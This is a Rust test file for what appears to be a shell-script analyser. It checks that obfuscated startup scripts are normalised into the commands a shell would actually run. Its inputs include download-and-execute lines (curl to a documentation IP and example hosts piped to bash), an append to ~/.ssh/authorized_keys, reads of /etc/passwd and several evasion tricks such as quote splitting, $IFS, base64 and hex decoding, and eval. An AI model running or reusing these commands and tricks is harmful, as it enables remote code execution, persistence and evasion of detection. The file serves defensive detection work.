use super::*;

fn read(text: &str) -> Shell {
    Shell::read(&[Script::stored("onStart", text, false)])
}

#[test]
fn commands_are_what_a_shell_would_run() {
    let cases: [(&str, &[&str]); 18] = [
        ("c\"\"url -s http://198.51.100.77/a | b''ash", &["curl -s http://198.51.100.77/a | bash"]),
        ("# curl http://x | sh\nls # rm", &["ls"]),
        ("cu\\\nrl http://a.example", &["curl http://a.example"]),
        ("f=authorized; echo x >> ~/.ssh/${f}_keys", &["f=authorized", "echo x >> ~/.ssh/authorized_keys"]),
        (
            "CMD='curl -s http://a.example/x'; $CMD | sh",
            &["CMD=curl -s http://a.example/x", "curl -s http://a.example/x | sh"],
        ),
        ("{curl,-s,http://a.example}", &["curl -s http://a.example"]),
        ("cat$IFS/etc/passwd", &["cat /etc/passwd"]),
        ("cu$@rl http://a.example", &["curl http://a.example"]),
        ("$'\\x63url' http://a.example", &["curl http://a.example"]),
        ("echo aWQgLXU= | base64 -d | sh", &["id -u", "echo aWQgLXU= | base64 -d | sh"]),
        ("echo 6964 | xxd -r -p > /tmp/x; sh /tmp/x", &["echo 6964 | xxd -r -p > /tmp/x", "id", "sh /tmp/x"]),
        (
            "base32 -d <<<NFSA==== >/tmp/a; bash /tmp/a",
            &["base32 -d <<< NFSA==== > /tmp/a", "id", "bash /tmp/a"],
        ),
        ("printf '\\151\\144' | sh", &["id", "printf \\151\\144 | sh"]),
        ("echo di | rev | sh", &["id", "echo di | rev | sh"]),
        ("bash <<'E'\nid\nE", &["id", "bash << …"]),
        ("sudo -u ec2-user -i <<'E'\nid\nE", &["id", "sudo -u ec2-user -i << …"]),
        ("eval \"$(echo id)\"", &["id", "eval id"]),
        (
            "python3 -c 'import os; os.system(\"id -u\")'",
            &["id -u", "python3 -c import os; os.system(\"id -u\")"],
        ),
    ];
    for (script, expected) in cases {
        assert_eq!(
            read(script)
                .commands
                .iter()
                .filter(|line| !expected.is_empty() && line.as_str() != "echo id")
                .collect::<Vec<_>>(),
            expected,
            "{script}"
        );
    }
}
